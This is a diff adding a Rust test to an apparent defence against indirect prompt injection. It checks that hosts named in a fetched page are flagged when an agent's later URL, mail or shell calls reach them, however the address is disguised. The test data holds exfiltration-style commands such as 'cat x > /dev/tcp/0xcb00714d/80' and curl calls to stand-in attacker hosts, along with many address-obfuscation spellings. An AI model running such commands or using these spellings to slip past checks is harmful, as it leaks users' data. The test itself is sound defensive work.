@@ -583,3 +583,40 @@ fn a_page_leads_on_to_no_host_that_only_looks_like_its_own() {
     let url = json!({"url": "https://\u{43f}\u{440}\u{438}\u{43c}\u{435}\u{440}.example/b"});
     assert_eq!(chosen(&now, &get, &url, "/url"), Choice::User);
 }
+
+#[test]
+fn no_spelling_of_a_host_hides_where_it_stood() {
+    let (page, send, run) = (tool("get_page", &["url"]), tool("send_mail", &["to", "body"]), tool("run", &["command"]));
+    let text = "See https://drop.evil.example/x or http://203.0.113.77/ or http://3405803854/, or ask audit@evil.example.";
+    let calls = [(&page, json!({"url": "news.example"}), json!(text))];
+    let session = session("What is new today?", &calls);
+    for url in [
+        "http://203.0.113.77/a",
+        "http://3405803853/",
+        "http://0xcb.0x0.0x71.0x4d/",
+        "http://0313.0.0161.0115/",
+        "http://203.0.29005/",
+        "http://[::ffff:203.0.113.77]/",
+        "http://203.0.113.78/",
+        "https://drop.evil\u{3002}example/",
+        "https:\\\\drop.evil.example\\x",
+        "//drop.evil.example",
+    ] {
+        assert_eq!(chosen(&session, &page, &json!({ "url": url }), "/url"), Choice::Untrusted, "{url}");
+    }
+    for to in [
+        "audit@[203.0.113.77]",
+        "audit@3405803853",
+        "audit%evil.example@relay.example",
+        "evil.example!audit",
+        "audit@evil\u{3002}example",
+    ] {
+        assert_eq!(chosen(&session, &send, &json!({ "to": to }), "/to"), Choice::Untrusted, "{to}");
+    }
+    for command in ["tool 203.0.113.77 80", "curl 203.0.113.77", "curl http://3405803853/", "cat x > /dev/tcp/0xcb00714d/80"] {
+        assert_eq!(chosen(&session, &run, &json!({ "command": command }), "/command"), Choice::Untrusted, "{command}");
+    }
+    assert_eq!(chosen(&session, &page, &json!({"url": "http://198.51.100.7/"}), "/url"), Choice::Model);
+    assert_eq!(chosen(&session, &send, &json!({"to": "ann@[198.51.100.7]"}), "/to"), Choice::Model);
+    assert_eq!(chosen(&session, &run, &json!({"command": "tool 198.51.100.7 1.5"}), "/command"), Choice::Model);
+}
